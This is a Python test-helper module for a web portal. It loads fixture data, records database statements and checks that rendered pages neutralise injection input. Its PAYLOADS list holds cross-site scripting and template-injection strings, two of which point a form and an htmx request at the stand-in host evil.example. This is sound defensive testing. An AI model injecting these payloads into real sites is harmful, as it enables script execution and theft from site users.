"""The facts that the demo loads, and the texts that somebody might try to break a page with."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from selectolax.lexbor import LexborHTMLParser, LexborNode
from sqlalchemy import event

from portal.core.extensions import db
from tests.fixtures import InspectedResponse

FACTS = Path(__file__).resolve().parents[1] / "portal" / "operations" / "facts"
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></script><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=q id=results>",
    "<div data-hx-get='//evil.example' data-hx-trigger=load>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
)
ALIVE = (
    "main script, main iframe, main img, main input#results, main form:not(#filter-form), head img, title *, "
    "[onerror], [onload], [srcdoc], [data-hx-trigger=load]"
)


def facts(name: str) -> dict[str, Any]:
    """Return a file of facts, such as "organisations"."""
    loaded: dict[str, Any] = json.loads((FACTS / f"{name}.json").read_text(encoding="utf-8"))
    return loaded


def assert_harmless(page: InspectedResponse) -> None:
    """Fail when markup of a payload came alive, or a link runs script."""
    assert [node.html for node in page.tree.css(ALIVE)] == []
    for address in page.attributes("main [href]", "href"):
        assert not address.strip().lower().startswith(("javascript:", "data:")), address


def linked_data(page: InspectedResponse) -> dict[str, Any]:
    """Return the only structured data of a page, read as a browser would: up to the first end tag."""
    source = page.get_data(as_text=True)
    opening = '<script type="application/ld+json">'
    assert source.count(opening) == 1
    start = source.index(opening) + len(opening)
    data: dict[str, Any] = json.loads(source[start : source.index("</script>", start)])
    return data


def child(node: LexborNode | LexborHTMLParser, selector: str) -> LexborNode:
    """Return the first match within a part of a page; fails when there is none."""
    found = node.css_first(selector)
    assert found is not None, selector
    return found


def squeezed(node: LexborNode) -> str:
    """Return the text of a node, white space squeezed."""
    return " ".join(node.text().split())


@contextmanager
def statements() -> Iterator[list[str]]:
    """Gather every statement sent to the database, the start of a transaction left out."""
    asked: list[str] = []

    def note(_connection: object, _cursor: object, statement: str, *_rest: object) -> None:
        if not statement.startswith("BEGIN"):
            asked.append(statement)

    event.listen(db.engine, "before_cursor_execute", note)
    try:
        yield asked
    finally:
        event.remove(db.engine, "before_cursor_execute", note)
